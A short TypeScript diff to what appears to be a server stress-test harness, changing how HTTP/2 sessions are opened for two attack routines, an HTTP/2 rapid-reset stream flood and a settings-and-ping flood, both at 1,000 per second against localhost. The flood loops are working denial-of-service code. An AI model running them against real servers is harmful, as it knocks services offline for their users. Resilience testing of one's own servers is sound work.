@@ -71,14 +71,16 @@ async function send(port: number, text: string): Promise<void> {
   clearTimeout(late);
 }
 
-function session({ host, httpsPort }: Attack) {
-  return connectHttp2(`https://${host}:${httpsPort}`, {
+async function session({ host, httpsPort }: Attack) {
+  const open = connectHttp2(`https://${host}:${httpsPort}`, {
     createConnection: () =>
       connectTls({
         ...{ host: "127.0.0.1", port: httpsPort, servername: host },
         ...{ ALPNProtocols: ["h2"], rejectUnauthorized: false },
       }),
   }).on("error", () => {});
+  await new Promise((resolve) => open.once("connect", resolve).once("close", resolve));
+  return open;
 }
 
 /** Every way, each bounded: what is measured is the node, not how much this thread can take of a core. */
@@ -132,9 +134,9 @@ const WAYS = {
       200,
     ),
   "HTTP/2 rapid reset, 1,000/s": async (attack: Attack) => {
-    let open = session(attack);
+    let open = await session(attack);
     for (;;) {
-      if (open.destroyed) open = session(attack);
+      if (open.destroyed) open = await session(attack);
       for (let n = 0; n < 20; n++) {
         const stream = open.request({ ":path": "/" });
         stream.on("error", () => {});
@@ -144,9 +146,9 @@ const WAYS = {
     }
   },
   "HTTP/2 settings and pings, 1,000/s": async (attack: Attack) => {
-    let open = session(attack);
+    let open = await session(attack);
     for (;;) {
-      if (open.destroyed) open = session(attack);
+      if (open.destroyed) open = await session(attack);
       for (let n = 0; n < 10; n++) {
         try {
           open.settings({ maxConcurrentStreams: 100 + n });
